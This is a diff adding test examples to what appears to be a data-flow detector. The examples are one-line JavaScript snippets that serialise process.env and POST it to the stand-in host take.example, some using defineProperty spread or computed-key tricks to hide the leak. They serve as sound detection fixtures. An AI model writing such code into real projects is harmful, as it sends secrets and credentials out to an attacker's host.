@@ -9,6 +9,16 @@ import { inPython } from './data-flow.python.examples.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const o = {}; Object.defineProperty(o, 'b', { value: '', ...{ value: JSON.stringify(process.env) } }); fetch('https://take.example', { method: 'POST', body: o.b });",
+      why: 'a spread gives a property another value than the one that stands before it',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const o = {}; Object.defineProperty(o, 'b', { value: 'ok', ['value']: JSON.stringify(process.env) }); fetch('https://take.example', { method: 'POST', body: o.b });",
+      why: 'and so does a computed key',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "const fill = (text) => text.replace(/\\$\\{(\\w+)\\}/g, (all, name) => process.env[name]); const settings = JSON.parse(readFileSync(file)); fetch(settings.url, { method: 'POST', body: fill(settings.body) });",
       why: 'the variable that a placeholder of a text names is one, not all of them',
       attributes: { source: 'environment:computed', sink: 'network.body', to: 'dynamic' },
